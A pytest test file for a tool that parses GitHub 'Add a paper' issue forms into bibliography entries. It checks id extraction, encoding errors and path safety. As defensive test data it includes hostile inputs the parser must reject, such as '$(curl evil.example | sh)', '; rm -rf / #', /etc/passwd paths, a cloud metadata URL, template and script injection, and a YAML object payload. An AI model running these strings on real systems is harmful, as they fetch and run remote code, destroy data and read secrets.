"""Issues made by the form for papers: what is taken from them, and what strangers may not do."""

from __future__ import annotations

import datetime as dt
import re
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from alignkb.bibtex import read_bibtex
from alignkb.drafts import Wishes, plan_additions
from alignkb.drafts.issue_form import LARGEST_ISSUE, IssueFormError, PaperIssue, read_paper_issue
from alignkb.issue_forms.fields import NO_RESPONSE, PAPER_FORM, choice_text
from alignkb.knowledge_base import load
from alignkb.project import open_project
from alignkb.source import read_document

CONCEPTS = ("ranking", "rl")
METHODS = ("old-method", "new-method")
ENTRY = "@misc{x, title = {On Parrots}, author = {Byronesque, Ada}, year = 2022}"


def body(**answers: str) -> str:
    """What GitHub makes of a form that is filled in so."""
    parts = []
    for field in PAPER_FORM.fields:
        answer = answers.get(field.key, NO_RESPONSE)
        if field.language and field.key in answers:
            answer = f"```{field.language}\n{answer}\n```"
        parts.append(f"### {field.label}\n\n{answer}")
    return "\n\n".join(parts)


def read(text: str) -> PaperIssue:
    return read_paper_issue(text.encode(), CONCEPTS, METHODS)


def sources(issue: PaperIssue) -> list[str]:
    return [source.value for source in issue.sources]


def test_a_form_that_is_filled_in() -> None:
    issue = read(
        body(
            source="https://arxiv.org/abs/2201.00001v2\n10.1234/parrots",
            bibtex=ENTRY,
            concepts=f"{choice_text('rl', 'Learning, by reward')}, {choice_text('ranking', 'Ranking')}",
            studies="old-method, new-method",
            note="Section 3,\nTable 2",
        )
    )
    assert sources(issue) == ["2201.00001", "10.1234/parrots"]
    assert (issue.concepts, issue.studies) == (("rl", "ranking"), ("old-method", "new-method"))
    assert issue.notes == ("the issue says: `Section 3, Table 2`",)
    assert issue.rejected == ()
    (draft,) = read_bibtex(issue.bibtex, "issue").drafts
    assert draft.fields["title"] == "On Parrots"


@pytest.mark.parametrize(
    "change",
    [
        str,
        lambda text: text.replace("\n", "\r\n"),
        lambda text: "\ufeff" + text,
        lambda text: "Hello!\n\n" + text,
    ],
)
def test_line_ends_and_beginnings(change: type[str]) -> None:
    assert sources(read(change(body(source="2201.00001")))) == ["2201.00001"]


@pytest.mark.parametrize(
    ("answer", "found"),
    [
        ("2201.00001\n\n2201.00001\narXiv:2201.00001v3 [cs.CL]", ["2201.00001"]),
        ("- 2201.00001\n* 2201.00002\n1. 2201.00003", ["2201.00001", "2201.00002", "2201.00003"]),
        ("[the paper](https://arxiv.org/abs/2201.00001)", ["2201.00001"]),
        ("<https://arxiv.org/abs/2201.00001>", ["2201.00001"]),
        ("`2201.00001`", ["2201.00001"]),
        ("It is at https://doi.org/10.1234/parrots, see State-of-the-Art GPT-4-Turbo.", ["10.1234/parrots"]),
        ("2201.00001, 2201.00002; 2201.00003", ["2201.00001", "2201.00002", "2201.00003"]),
        ("(https://openreview.net/forum?id=PaRr0tTalk)", ["PaRr0tTalk"]),
        ("PaRr0tTalk", ["PaRr0tTalk"]),
        ("doi: 10.1234/parrots.", ["10.1234/parrots"]),
        ("```\n2201.00001\n```", ["2201.00001"]),
        ("\u200b2201.00001\u202e", ["2201.00001"]),
    ],
)
def test_ways_to_name_a_paper(answer: str, found: list[str]) -> None:
    issue = read(body(source=answer))
    assert (sources(issue), issue.rejected) == (found, ())


@pytest.mark.parametrize(
    "answer",
    [
        "../../etc/passwd",
        "/etc/passwd.bib",
        "refs.bib",
        "-",
        "--issue",
        "$(curl evil.example | sh)",
        "`id`",
        "; rm -rf / #",
        "file:///etc/passwd",
        "http://169.254.169.254/latest/meta-data",
        "https://arxiv.org@evil.example/abs/2201.00001",
        "{{ config.items() }} ${{ secrets.TOKEN }}",
        "<script>alert(1)</script>",
        "!!python/object/apply:os.system ['id']",
        "&anchor *alias",
        "\u0661\u0662.\u0663",
        "see PaRr0tTalk",
    ],
)
def test_what_names_no_paper_is_rejected(answer: str) -> None:
    issue = read(body(source=f"2201.00001\n{answer}"))
    assert sources(issue) == ["2201.00001"]
    (rejected,) = issue.rejected
    assert rejected.origin == f"issue: {answer}"
    assert "write the paper as BibTeX" in rejected.reason


def test_ids_that_nobody_has_are_left_out_and_told() -> None:
    issue = read(
        body(
            source="2201.00001",
            concepts="rl (RL), ../../etc, $(id)",
            studies="old-method, a, b, c, d, e, f, g",
        )
    )
    assert (issue.concepts, issue.studies) == (("rl",), ("old-method",))
    assert issue.notes == (
        "left out, since they are the id of no concept of the home scheme: `../../etc`, `$(id)`",
        "left out, since they are the id of no method: `a`, `b`, `c`, `d`, `e` and 2 more",
    )


def test_a_long_note_is_cut() -> None:
    (note,) = read(body(source="2201.00001", note="`x` " * 500)).notes
    assert len(note) < 530
    assert note.endswith("…`")
    assert note.count("`") == 2


def test_fences_within_fences() -> None:
    entry = ENTRY.replace("On Parrots", "On Parrots\n```\nnot the end\n```\n")
    (draft,) = read_bibtex(read(body(bibtex=entry)).bibtex, "issue").drafts
    assert "not the end" in draft.fields["title"]


@pytest.mark.parametrize(
    "written", [ENTRY, f"```\n{ENTRY}\n```", f"~~~~bibtex\n{ENTRY}\n~~~~", f"```bibtex\n{ENTRY}"]
)
def test_bibtex_with_any_fence(written: str) -> None:
    text = f"### {PAPER_FORM.field('bibtex').label}\n\n{written}\n"
    assert len(read_bibtex(read(text).bibtex, "issue").drafts) == 1


def test_a_heading_of_no_field_is_text() -> None:
    issue = read(body(source="2201.00001\n### C\u043encepts\n2201.00002\n#### Concepts"))
    assert sources(issue) == ["2201.00001", "2201.00002"]
    assert [one.origin for one in issue.rejected] == ["issue: ### C\u043encepts", "issue: #### Concepts"]


@pytest.mark.parametrize(
    ("raw", "reason"),
    [
        (b"", "this is no issue of the form `Add a paper`: it has none of its headings"),
        (b"### Something\n\nelse", "it has none of its headings"),
        (body().encode(), "the issue names no paper; fill in `Where the paper is` or `BibTeX`"),
        (body(bibtex="").encode(), "the issue names no paper"),
        (body(source="2201.00001\n### Concepts\nrl").encode(), "the heading `Concepts` stands there twice"),
        (
            body(bibtex=f"{ENTRY}\n### Where the paper is\n2201.00001").encode(),
            "the heading `Where the paper is` stands there twice",
        ),
        (body(source="2201.00001").encode("utf-16"), "the issue is not UTF-8: byte 1 fits nowhere"),
        (body(source="caf\u00e9 2201.00001").encode("latin-1"), "the issue is not UTF-8"),
        (body(source="\0").encode(), "it holds a zero byte"),
        (
            body(source="x" * LARGEST_ISSUE).encode(),
            "the issue has more than the 262,144 bytes that are read",
        ),
        (body(source="\n".join(f"2201.{n:05}" for n in range(1, 60))).encode(), "more than 50 papers"),
    ],
)
def test_what_cannot_be_read_is_refused(raw: bytes, reason: str) -> None:
    with pytest.raises(IssueFormError, match=reason):
        read_paper_issue(raw, CONCEPTS, METHODS)


HEADINGS = st.sampled_from([f"### {field.label}\n\n" for field in PAPER_FORM.fields])


@given(
    st.lists(
        HEADINGS | st.text(max_size=60) | st.sampled_from(["```\n", "\n\n", "2201.00001\n", ENTRY]),
        max_size=12,
    ).map("".join)
)
def test_any_text_is_read_or_refused(text: str) -> None:
    try:
        issue = read_paper_issue(text.encode("utf-8", "surrogatepass"), CONCEPTS, METHODS)
    except IssueFormError:
        return
    assert set(issue.concepts) <= set(CONCEPTS)
    assert set(issue.studies) <= set(METHODS)
    assert all(
        source.kind.value in ("arXiv", "DOI", "ACL Anthology", "OpenReview") for source in issue.sources
    )


@given(st.binary(max_size=300))
def test_any_bytes_are_read_or_refused(raw: bytes) -> None:
    try:
        read_paper_issue(b"### BibTeX\n" + raw, CONCEPTS, METHODS)
    except IssueFormError:
        return


TOY = load(open_project(Path(__file__).parents[1] / "toy"))
TAME = (
    "../",
    "/etc/passwd",
    "\\",
    "$",
    ",",
    "=",
    "{{7*7}}",
    "$(id)",
    "`id`",
    "<b>",
    "é",
    "\u202e",
    "\n",
    "CON",
    "- !!x &a *b",
    "#",
    "Evil, E",
    " and others",
    "好",
    "İ",
)
WILD = ("{", "}", "@misc{", "title = {", "author={", "year=2020,", "year={19999},", '"', "%")
TEXTS = st.lists(st.sampled_from(TAME), min_size=1, max_size=8).map("".join)
FIELDS = TEXTS | st.lists(st.sampled_from(TAME + WILD) | st.text(max_size=8), max_size=8).map("".join)


@settings(max_examples=60, deadline=None)
@given(
    key=FIELDS,
    title=FIELDS,
    author=FIELDS,
    year=st.sampled_from(["2020", "2020-01", "{../1}", "20200"]),
    wild=FIELDS,
)
def test_no_path_leaves_the_folder(key: str, title: str, author: str, year: str, wild: str) -> None:
    text = f"@misc{{{key}, title = {{{title}}}, author = {{{author}}}, year = {{{year}}}}}\n{wild}"
    try:
        issue = read_paper_issue(
            f"### BibTeX\n\n```bibtex\n{text}\n```".encode("utf-8", "replace"), CONCEPTS, METHODS
        )
    except IssueFormError:
        return
    read_ = read_bibtex(issue.bibtex, "issue")
    plan = plan_additions(TOY, read_.drafts, Wishes(), dt.date(2026, 1, 1), read_.rejected)
    for change in plan.changes:
        assert re.fullmatch(r"papers/[1-9][0-9]{3}/[a-z0-9]+(-[a-z0-9]+)*\.yaml", change.path)
        assert change.before is None
        assert read_document(change.path, change.after or b"")[1] == ()
